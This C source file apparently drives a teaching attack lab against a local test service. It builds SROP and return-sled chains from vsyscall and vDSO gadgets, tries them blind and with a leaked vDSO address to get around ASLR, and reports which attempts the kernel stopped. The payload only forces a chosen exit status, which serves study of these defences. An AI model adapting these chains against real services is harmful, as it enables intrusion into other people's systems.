/* attack: the attack lab in one program: the layout of two execs, the four attempts on the service, the heatmap (docs/attack.md). */
#include "attack.h"

/*
 * The attacker knows the service's binary but no address of its: the
 * service is a static-pie, loaded at a random base, with its stack, heap
 * and mmap areas at random places too. What does not move is the vsyscall
 * page. The attacker has a copy of its native bytes (every machine running
 * this kernel has the same), /bin/vsyscall_native, and a copy of the vDSO
 * (its own: every process maps the same image, at its own random address).
 */
static char *service[] = { "/bin/service", NULL };
static char *service_leaky[] = { "/bin/service", "-d", NULL };

static int run(char *const argv[])
{
	long pid = fork();
	int status = -1;

	if (pid == 0) {
		execve(argv[0], argv, environ);
		exit_group(127);
	}
	if (pid < 0 || wait4(pid, &status, 0, NULL) != pid)
		return -1;
	return status;
}

/* Two execs of a static-pie, then two with randomization turned off as `setarch -R` does. */
static void show_layout(void)
{
	char *plain[] = { "/bin/layout", NULL }, *norandom[] = { "/bin/layout", "-R", NULL };
	int i;

	for (i = 0; i < 4; i++)
		if (run(i < 2 ? plain : norandom))
			printf("attack: /bin/layout failed\n");
}

static void report(const char *name, const struct outcome *o, int succeeded)
{
	if (succeeded)
		printf("attack: %s: SUCCEEDED\n", name);
	else if (WIFSIGNALED(o->status))
		printf("attack: %s: STOPPED (%s%s%s)\n", name, signal_name(WTERMSIG(o->status)),
		       o->kmsg[0] ? ": " : "", o->kmsg);
	else
		printf("attack: %s: STOPPED (exit status %d)\n", name, WEXITSTATUS(o->status));
}

static size_t srop_request(unsigned char *req, size_t size, const char *first_line, void *arg)
{
	(void)first_line;
	return build_srop_exit(req, size, arg);
}

/* The chain aimed at the page's native bytes, sent in every mode: fixed-syscall. */
static void fixed_syscall(void)
{
	static unsigned char page[PAGE];
	struct gadgets g;
	struct outcome o;
	long fd = open("/bin/vsyscall_native", O_RDONLY, 0);

	if (fd < 0 || read(fd, page, PAGE) != PAGE || find_gadgets(page, PAGE, VSYSCALL_PAGE, &g)) {
		printf("attack: fixed-syscall: no copy of the native page, or no gadgets in it\n");
		return;
	}
	close(fd);
	printf("attack: fixed-syscall: ret %lx, xor eax,eax; ret %lx, syscall %lx (then %d pops, ret)\n",
	       g.ret, g.zero_rax, g.syscall, g.syscall_pops);
	if (run_service(service, 0, srop_request, &g, &o) == 0)
		report("fixed-syscall", &o, WIFEXITED(o.status) && WEXITSTATUS(o.status) == CHOSEN_STATUS);
}

static int served(const char *out)
{
	for (; *out; out++)
		if (!strncmp(out, "served", 6))
			return 1;
	return 0;
}

static size_t sled_request(unsigned char *req, size_t size, const char *first_line, void *arg)
{
	(void)first_line;
	return build_ret_sled(req, size, VSYSCALL_PAGE + 0x400, *(size_t *)arg);
}

/*
 * fixed-ret: bodies made only of the time entry's address, one word longer
 * each try. Too short, the service serves it; long enough to cover its
 * return address, each entry returns into the next; exactly as long as the
 * way up to the next saved code pointer (into the service's own start
 * code), the last entry returns there, and the service exits with what
 * time() returned, without serving: the entries served as fixed "ret"s.
 */
static void fixed_ret(void)
{
	struct outcome o, first_stop = { .status = -1 };
	size_t len;
	long t0;

	for (len = 8; len <= 160; len += 8) {
		t0 = time(NULL);
		if (run_service(service, 0, sled_request, &len, &o))
			return;
		if (WIFEXITED(o.status) && !served(o.out) &&
		    (WEXITSTATUS(o.status) == (t0 & 0xff) || WEXITSTATUS(o.status) == ((t0 + 1) & 0xff))) {
			printf("attack: fixed-ret: %zu entries returned into the service's start code, "
			       "which exited with time() & 0xff = %d\n", len / 8, WEXITSTATUS(o.status));
			report("fixed-ret", &o, 1);
			return;
		}
		if (first_stop.status == -1 && !WIFEXITED(o.status))
			first_stop = o;
	}
	report("fixed-ret", &first_stop, 0);
}

/* The size of the vDSO's image at base, from its program headers. */
static size_t vdso_size(unsigned long base)
{
	unsigned long phoff = *(unsigned long *)(base + 32), end = 0;
	unsigned int phnum = *(unsigned short *)(base + 56), i;

	for (i = 0; i < phnum; i++) {
		const unsigned char *ph = (const unsigned char *)base + phoff + i * 56;
		unsigned long vaddr = *(const unsigned long *)(ph + 16), memsz = *(const unsigned long *)(ph + 40);

		if (*(const unsigned int *)ph == 1 && vaddr + memsz > end)	/* PT_LOAD */
			end = vaddr + memsz;
	}
	return end;
}

static struct gadgets vdso_gadgets;
static unsigned long own_vdso;

/* The vDSO chain: offsets from the attacker's own vDSO, moved to the leaked base. */
static size_t leak_request(unsigned char *req, size_t size, const char *first_line, void *arg)
{
	const char *at = strchr(first_line, 'x');
	unsigned long base = 0, d;
	struct gadgets g = vdso_gadgets;

	(void)arg;
	for (at = at ? at + 1 : ""; (*at >= '0' && *at <= '9') || (*at >= 'a' && *at <= 'f'); at++)
		base = base * 16 + (*at <= '9' ? *at - '0' : *at - 'a' + 10);
	if (!base)
		return 0;
	d = base - own_vdso;
	g.ret += d, g.zero_rax += d, g.syscall += d;
	return build_srop_exit(req, size, &g);
}

/* vdso-blind: the vDSO's chain at the attacker's own vDSO address; vdso-leak: at the leaked one. */
static void vdso_attempts(void)
{
	struct outcome o;

	own_vdso = getauxval(AT_SYSINFO_EHDR);
	if (!own_vdso || find_gadgets((const unsigned char *)own_vdso, vdso_size(own_vdso), own_vdso,
				      &vdso_gadgets)) {
		printf("attack: vdso-blind: no vDSO, or no gadgets in it\n");
		return;
	}
	printf("attack: vdso-blind: guessing the service's vDSO at %lx, the attacker's own\n", own_vdso);
	if (run_service(service, 0, srop_request, &vdso_gadgets, &o) == 0)
		report("vdso-blind", &o, WIFEXITED(o.status) && WEXITSTATUS(o.status) == CHOSEN_STATUS);
	if (run_service(service_leaky, 1, leak_request, NULL, &o) == 0) {
		printf("attack: vdso-leak: the service said: %s", o.out);
		report("vdso-leak", &o, WIFEXITED(o.status) && WEXITSTATUS(o.status) == CHOSEN_STATUS);
	}
}

/* `attack` runs it all; `-a` only the layout part; `-m` adds the heatmap. */
int main(int argc, char **argv, char **envp)
{
	(void)envp;
	show_layout();
	if (argc > 1 && !strcmp(argv[1], "-a"))
		return 0;
	check_payload();
	fixed_syscall();
	fixed_ret();
	vdso_attempts();
	if (argc > 1 && !strcmp(argv[1], "-m"))
		heatmap();
	return 0;
}
